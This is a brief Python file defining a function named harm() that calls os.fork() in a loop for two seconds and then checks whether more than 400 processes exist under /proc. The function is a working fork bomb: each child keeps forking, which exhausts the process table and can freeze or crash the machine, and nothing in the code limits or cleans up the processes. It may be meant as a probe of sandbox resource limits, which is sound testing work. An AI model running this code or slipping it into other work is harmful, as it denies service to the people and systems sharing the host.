import os
import time


def harm():
    end = time.time() + 2
    while time.time() < end:
        try:
            os.fork()
        except OSError:
            time.sleep(0.1)
    return len([name for name in os.listdir("/proc") if name.isdigit()]) > 400
